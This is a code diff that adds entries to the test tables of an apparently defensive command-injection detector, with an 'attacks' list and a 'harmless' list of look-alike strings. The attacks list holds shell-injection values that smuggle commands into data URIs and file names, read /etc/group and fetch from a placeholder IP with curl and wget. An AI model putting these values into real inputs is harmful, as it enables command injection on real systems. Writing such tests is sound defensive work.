@@ -26,7 +26,10 @@ static const char *const  attacks[] = {
     "main\\nid\\n", "\\n/usr/bin/id;", "a&#59;id",
     "\357\274\233id",
 
+    "data:image/gif;base64,R0lGOD;id", "data:image/gif;x=1;cat /etc/group",
+
     /* substitution */
+    "main `id`",
     "x$(id)", "x`id`", "x$(curl http://203.0.113.4)", "x`wget 203.0.113.4/a`",
     "x$(</etc/group)", "x$(sort)",
 
@@ -80,6 +83,10 @@ static const char *const  harmless[] = {
     "images/50%25 off.png",
 
     /* substitutions of other languages */
+    "The timestamp is stored in `id`.",
+    "Clone the repo, `npm install`, and run `npm test`",
+    "data:image/gif;base64,R0lGODlhAQABAIAAAP///wAAACH5BAEAAAAALAAAAAA=",
+    "data:text/plain;charset=utf-8;base64,aWQ7aWQ=",
     "$(SRC)/main.c", "Hello {{ name }}", "${HOME}/x", "`users`", "$(document)"
 };
 
